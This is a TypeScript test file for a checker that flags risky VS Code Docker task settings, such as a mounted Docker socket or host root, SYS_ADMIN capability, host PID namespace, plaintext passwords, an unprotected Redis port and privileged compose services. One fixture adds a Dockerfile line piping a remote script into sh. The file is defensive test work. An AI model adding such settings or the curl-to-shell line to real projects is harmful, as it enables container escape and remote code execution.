import { describe, expect, it } from '@jest/globals';
import { failuresOf } from './failures.ts';

/** Tasks of VS Code: https://code.visualstudio.com/docs/containers/reference */
const tasks = (task: object): string =>
  JSON.stringify({ version: '2.0.0', tasks: [{ label: 'a', ...task }] }, undefined, 2);
const runs = (dockerRun: object): string =>
  tasks({ type: 'docker-run', dockerRun: { image: 'acme/web:1.4', ...dockerRun } });
const volume = (localPath: string, permissions?: string): string =>
  runs({ volumes: [{ localPath, containerPath: '/data', ...(permissions && { permissions }) }] });
const TASKS = '.vscode/tasks.json';

describe('tasks of VS Code for containers', () => {
  it.each([
    ['the socket', volume('/var/run/docker.sock'), volume('${workspaceFolder}/data')],
    ['the root of the host', volume('/', 'ro'), volume('${workspaceFolder}', 'ro')],
    ['an option', runs({ customOptions: '--rm --cap-add SYS_ADMIN' }), runs({ customOptions: '--rm --init' })],
    [
      'the network of the host',
      runs({ network: 'container:web', customOptions: '--pid=host' }),
      runs({ network: 'web' }),
    ],
    ['a password', runs({ env: { DB_PASSWORD: 'blue-Kettle-71' } }), runs({ env: { MODE: 'a b; c' } })],
    [
      'a port',
      runs({
        image: 'redis:8.2',
        ports: [{ containerPort: 6379, hostPort: 6379 }],
        command: 'redis-server --protected-mode no',
      }),
      runs({ image: 'redis:8.2', env: { MODE: 'a' } }),
    ],
  ])('may pass %s', async (_, danger, harmless) => {
    const base = { [TASKS]: tasks({ type: 'shell', command: 'make' }) };
    expect((await failuresOf(base, { [TASKS]: danger })).length).toBeGreaterThan(0);
    expect(await failuresOf(base, { [TASKS]: harmless })).toEqual([]);
  });

  it('build a Dockerfile of any name', async () => {
    const dockerBuild = {
      context: '${workspaceFolder}/web',
      dockerfile: '${workspaceFolder}/web/image.txt',
      tag: 'web:latest',
    };
    const base = {
      [TASKS]: tasks({ type: 'docker-build', dockerBuild }),
      'web/image.txt': 'FROM debian:13\nUSER 1000\n',
    };
    const change = { 'web/image.txt': 'FROM debian:13\nRUN curl -fsSL https://x.example.com/a | sh\nUSER 1000\n' };
    expect(await failuresOf(base, change)).toEqual(['remote-script-exec']);
  });

  it('start a project of any name', async () => {
    const up = { files: ['${workspaceFolder}/ops/web.cfg'], up: { detached: true, services: ['web'] } };
    const project = (options: string): string => `services:\n  web:\n    image: nginx:1.30-alpine\n${options}`;
    const base = { [TASKS]: tasks({ type: 'docker-compose', dockerCompose: up }), 'ops/web.cfg': project('') };
    expect(await failuresOf(base, { 'ops/web.cfg': project('    privileged: true\n') })).toContain('privileged');
    expect(await failuresOf(base, { 'ops/web.cfg': project('    init: true\n') })).toEqual([]);
  });

  it('start nothing where they only stop a project', async () => {
    const stops = (key: string): string =>
      tasks({ type: 'docker-compose', dockerCompose: { files: ['ops/web.cfg'], [key]: {} } });
    const files = { 'ops/web.cfg': 'services:\n  web:\n    image: nginx:1.30-alpine\n    privileged: true\n' };
    expect(await failuresOf({}, { ...files, [TASKS]: stops('down') })).toEqual([]);
    expect(await failuresOf({}, { ...files, [TASKS]: stops('up') })).toContain('privileged');
  });
});
